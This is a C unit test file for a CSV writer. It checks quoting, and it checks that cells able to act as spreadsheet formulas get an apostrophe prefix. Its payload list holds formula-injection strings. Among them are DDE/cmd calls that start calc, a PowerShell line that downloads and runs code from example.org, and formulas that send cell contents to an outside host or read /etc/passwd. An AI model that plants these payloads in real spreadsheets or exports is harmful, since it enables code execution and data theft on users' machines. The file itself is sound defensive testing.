/* test-csv-write.c: rows that a spreadsheet may open without harm
 *
 * SPDX-FileCopyrightText: 2026 The Kith authors
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include "kith-csv.h"

#include <string.h>

typedef struct
{
  const char *cell;
  const char *expected;
} CellCase;

static char *
write_row (const char *const *cells,
           gsize              n_cells)
{
  GString *csv = g_string_new (NULL);

  kith_csv_append_row (csv, cells, n_cells);
  return g_string_free_and_steal (csv);
}

static char *
write_cell (const char *cell)
{
  char *row = write_row (&cell, 1);

  g_assert_true (g_str_has_suffix (row, "\r\n"));
  row[strlen (row) - 2] = '\0';

  return row;
}

static void
assert_writes (const CellCase *cases,
               gsize           n_cases)
{
  for (gsize i = 0; i < n_cases; i++)
    {
      g_autofree char *written = write_cell (cases[i].cell);

      g_assert_cmpstr (written, ==, cases[i].expected);
    }
}

static void
test_rows (void)
{
  static const char *const cells[] = { "Wren", NULL, "", "a,b" };
  g_autofree char *all = write_row (cells, 4);
  g_autofree char *one = write_row (cells, 1);
  g_autofree char *none = write_row (NULL, 0);

  g_assert_cmpstr (all, ==, "Wren,,,\"a,b\"\r\n");
  g_assert_cmpstr (one, ==, "Wren\r\n");
  g_assert_cmpstr (none, ==, "\r\n");
}

static void
test_rows_follow_one_another (void)
{
  static const char *const cells[] = { "a", "b" };
  g_autoptr(GString) csv = g_string_new ("x,y\r\n");

  kith_csv_append_row (csv, cells, 2);
  kith_csv_append_row (csv, cells, 2);
  g_assert_cmpstr (csv->str, ==, "x,y\r\na,b\r\na,b\r\n");
}

static void
test_quoting (void)
{
  static const CellCase cases[] = {
    { "Wren Ashdown", "Wren Ashdown" },
    { "a,b", "\"a,b\"" },
    { "a;b", "\"a;b\"" },
    { "a\tb", "\"a\tb\"" },
    { "a|b", "\"a|b\"" },
    { "a\"b", "\"a\"\"b\"" },
    { "\"a\"", "\"\"\"a\"\"\"" },
    { "a\nb", "\"a\nb\"" },
    { "a\r\nb", "\"a\r\nb\"" },
    { "Zoë", "Zoë" },
  };

  assert_writes (cases, G_N_ELEMENTS (cases));
}

/* Forty ways in which cells were made into formulas, or hidden from those
 * who look for formulas. None may begin with one of the signs once what a
 * program strips is stripped.
 */
static const char *const payloads[] = {
  "=1+1",
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget example.org/x)'!A0",
  "=HYPERLINK(\"http://example.org?x=\"&A1,\"More\")",
  "=IMPORTXML(CONCAT(\"http://example.org?v=\",A1),\"//a\")",
  "=IMPORTDATA(\"http://example.org/\"&A1)",
  "=WEBSERVICE(\"http://example.org/\"&A1)",
  "=DDE(\"cmd\";\"/C calc\";\"x\")",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "='file:///etc/passwd'#$passwd.A1",
  "=SUM(1,1)*cmd|' /C calc'!A0",
  "=@SUM(1+1)",
  "==1+1",
  "=",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "+44 20 7946 0958",
  "+=1",
  "+",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "-1-cmd|'/C calc'!A0",
  "-",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(A1)",
  "@",
  "\t=1+1",
  "\tx",
  "\r=1+1",
  "\rx",
  "\n=1+1",
  " =1+1",
  "   +1+1",
  "\u00a0=1+1",
  "\"=1+1\"",
  "'=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  " \"\ufeff＝1+1",
  "\u22121+1",
};

static void
test_formulas_get_an_apostrophe (void)
{
  g_assert_cmpuint (G_N_ELEMENTS (payloads), >=, 40);

  for (gsize i = 0; i < G_N_ELEMENTS (payloads); i++)
    {
      g_autoptr(GBytes) bytes = NULL;
      g_autoptr(KithCsvReader) reader = NULL;
      const char *cells[] = { "name", payloads[i], "end" };
      g_autofree char *row = write_row (cells, 3);

      g_test_message ("%s", payloads[i]);
      bytes = g_bytes_new (row, strlen (row));
      reader = kith_csv_reader_new (bytes, NULL);

      g_assert_true (kith_csv_reader_next (reader, NULL));
      g_assert_cmpuint (kith_csv_reader_get_n_cells (reader), ==, 3);
      g_assert_cmpint (kith_csv_reader_get_cell (reader, 1)[0], ==, '\'');
      g_assert_cmpstr (kith_csv_reader_get_cell (reader, 1) + 1, ==, payloads[i]);
      g_assert_cmpstr (kith_csv_reader_get_cell (reader, 2), ==, "end");
    }
}

static void
test_guard_is_inside_the_quotes (void)
{
  static const CellCase cases[] = {
    { "=1+1", "'=1+1" },
    { "=A,B", "\"'=A,B\"" },
    { "\t", "\"'\t\"" },
    { "\"=1\"", "\"'\"\"=1\"\"\"" },
  };

  assert_writes (cases, G_N_ELEMENTS (cases));
}

static void
test_numbers_and_text_are_left (void)
{
  static const char *const cells[] = {
    "0", "12.50", "-12.50", "-1", "+1", "+447700900123", "-0.5", "1e5",
    "", " ", "   ", "'", "Wren", "Anne-Marie",
    "a=b", "a@b", "1+1", "5-a-side", "#REF", "(=1)",
    "2026-11-22", "'tis", "\ufeff",
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cells); i++)
    {
      g_autofree char *written = write_cell (cells[i]);

      g_test_message ("'%s'", cells[i]);
      g_assert_cmpstr (written, ==, cells[i]);
    }
}

static void
test_near_numbers_are_guarded (void)
{
  static const char *const cells[] = {
    "-1.", "-.5", "-1e5", "--1", "+-1", "-1 ", "- 1", " -1", "-1,000", "-1.2.3", "-£5",
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cells); i++)
    {
      g_autofree char *written = write_cell (cells[i]);

      g_test_message ("'%s'", cells[i]);
      g_assert_true (g_str_has_prefix (written, "'") || g_str_has_prefix (written, "\"'"));
    }
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/csv-write/rows", test_rows);
  g_test_add_func ("/csv-write/rows-follow-one-another", test_rows_follow_one_another);
  g_test_add_func ("/csv-write/quoting", test_quoting);
  g_test_add_func ("/csv-write/formulas-get-an-apostrophe", test_formulas_get_an_apostrophe);
  g_test_add_func ("/csv-write/guard-is-inside-the-quotes", test_guard_is_inside_the_quotes);
  g_test_add_func ("/csv-write/numbers-and-text-are-left", test_numbers_and_text_are_left);
  g_test_add_func ("/csv-write/near-numbers-are-guarded", test_near_numbers_are_guarded);

  return g_test_run ();
}
